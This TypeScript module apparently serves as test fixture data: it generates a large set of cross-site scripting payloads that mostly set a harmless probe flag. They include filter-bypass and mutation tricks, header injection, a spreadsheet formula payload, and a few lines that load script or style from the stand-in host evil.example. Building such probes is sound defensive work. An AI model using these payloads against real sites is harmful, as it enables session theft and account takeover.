/** Sets this, should any of it run; and whatever becomes an element or an attribute carries `xssprobe`. */
const CALL = 'window.top.hit=1'

const ELEMENTS = [
  'img xssprobe src=x',
  'svg xssprobe',
  'video xssprobe src=x',
  'audio xssprobe src=x',
  'body xssprobe',
  'input xssprobe autofocus',
  'details xssprobe open',
  'iframe xssprobe',
  'object xssprobe data=x',
  'embed xssprobe src=x',
  'link xssprobe rel=stylesheet href=x',
  'form xssprobe',
  'math xssprobe',
  'marquee xssprobe',
  'a xssprobe href=#',
  'select xssprobe autofocus',
  'x-probe xssprobe tabindex=0',
]
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onclick', 'onmouseover', 'onanimationstart', 'onbegin', 'onstart']
const SCHEMES = [
  'javascript:',
  'JavaScript:',
  'java&#9;script:',
  'java\tscript:',
  'javascript&colon;',
  '&#106;avascript:',
  '\u0001javascript:',
  ' javascript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD4',
  'vbscript:',
  'blob:',
  'file:///',
  'about:',
]
const WRAPPERS = [
  (address: string) => `[x](${address})`,
  (address: string) => `![x](${address})`,
  (address: string) => `<a xssprobe href="${address}">x</a>`,
  (address: string) => `[x]: ${address}`,
  (address: string) => `<${address}>`,
]
/** Ways out of where a text may stand: an attribute, a comment, a title, a script, a style, a template. */
const EXITS = [
  `">`,
  `'>`,
  `>`,
  '-->',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</template>',
  '</noscript>',
  '</option></select>',
  ']]>',
  '`>',
  '\u0000>',
  '%22%3E',
  '&quot;>',
  '\\">',
  '\\u0022\\u003e',
]
const INSIDE = [`<img xssprobe src=x onerror=${CALL}>`, `<script xssprobe>${CALL}</script>`, `<svg xssprobe/onload=${CALL}>`]
const ATTRIBUTES = [`"`, `'`, '` ', ' '].flatMap((quote) => [
  `${quote} xssprobe onfocus=${CALL} autofocus tabindex=0 x=${quote}`,
  `${quote} xssprobe onmouseover=${CALL} style=position:fixed;inset:0 x=${quote}`,
  `https://shop.example/${quote}xssprobe=1 onclick=${CALL}`,
])
const ODD = [
  `<SCRIPT xssprobe SRC=//evil.example></SCRIPT>`,
  `<scr<script xssprobe>ipt>${CALL}</script>`,
  `<script xssprobe\n>${CALL}</script\n>`,
  `<style xssprobe>*{background:url(//evil.example)}</style>`,
  `<base xssprobe href=//evil.example>`,
  `<meta xssprobe http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<iframe xssprobe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<template xssprobe><img src=x onerror=${CALL}></template>`,
  `<noscript><p title="</noscript><img xssprobe src=x onerror=${CALL}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img xssprobe title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<svg><style><img xssprobe src=x onerror=${CALL}></style></svg>`,
  `<svg><animate xssprobe onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CALL}"><text xssprobe>x</text></a></svg>`,
  `<form xssprobe action=javascript:${CALL}><button>x</button></form>`,
  `<button xssprobe formaction=javascript:${CALL}>x</button>`,
  `<dialog xssprobe open onclose=${CALL}><form method=dialog><button>x</button></form></dialog>`,
  `<div xssprobe popover id=p onbeforetoggle=${CALL}></div>`,
  `＜script xssprobe＞${CALL}＜/script＞`,
  `+ADw-script xssprobe+AD4-${CALL}+ADw-/script+AD4-`,
  `&lt;img xssprobe src=x onerror=${CALL}&gt;`,
  `&amp;lt;img xssprobe src=x onerror=${CALL}&amp;gt;`,
  `&#60;img xssprobe src=x onerror=${CALL}&#62;`,
  `\\x3cimg xssprobe src=x onerror=${CALL}\\x3e`,
  `\u202e<img xssprobe src=x onerror=${CALL}>`,
  `'-${CALL}-'`,
  `';${CALL}//`,
  `"};${CALL};var x={"`,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `<%= ${CALL} %>`,
  `{"__html":"<img xssprobe src=x onerror=${CALL}>"}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img xssprobe>"}}`,
  `__proto__`,
  `\`\`\`html\n<img xssprobe src=x onerror=${CALL}>\n\`\`\``,
  `| <img xssprobe src=x onerror=${CALL}> | b |\n|---|---|\n| <svg xssprobe onload=${CALL}> | c |`,
  `[x](https://shop.example/" xssprobe onmouseover="${CALL})`,
  `[x](https://shop.example/ "title\\" xssprobe onmouseover=${CALL}")`,
  `[<img xssprobe src=x onerror=${CALL}>](https://shop.example)`,
  `**<img xssprobe src=x onerror=${CALL}>**`,
  `[1](javascript:${CALL}) [1] [2]`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${CALL} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg xssprobe/oNloAd=${CALL}//>`,
  `\r\nSet-Cookie: hit=1\r\n\r\n<script xssprobe>${CALL}</script>`,
  `=HYPERLINK("javascript:${CALL}")`,
]

/** Attacks of our own on whoever shows a text: in elements, attributes, addresses, Markdown, scripts and templates. */
export const XSS_PAYLOADS: readonly string[] = [
  ...ODD,
  ...ATTRIBUTES,
  ...EXITS.flatMap((exit) => INSIDE.map((inside) => `${exit}${inside}`)),
  ...SCHEMES.flatMap((scheme) => WRAPPERS.map((wrap) => wrap(`${scheme}${CALL}`))),
  ...ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} ${event}=${CALL}>`)),
]

/** All of them in texts of at most so many characters; what does not fit alone is left out. */
export const xssTexts = (maxChars: number, separator = '\n\n'): string[] => {
  const texts: string[] = []
  for (const payload of XSS_PAYLOADS) {
    if (payload.length > maxChars) continue
    const last = texts.at(-1)
    if (last !== undefined && last.length + separator.length + payload.length <= maxChars)
      texts[texts.length - 1] = last + separator + payload
    else texts.push(payload)
  }
  return texts
}
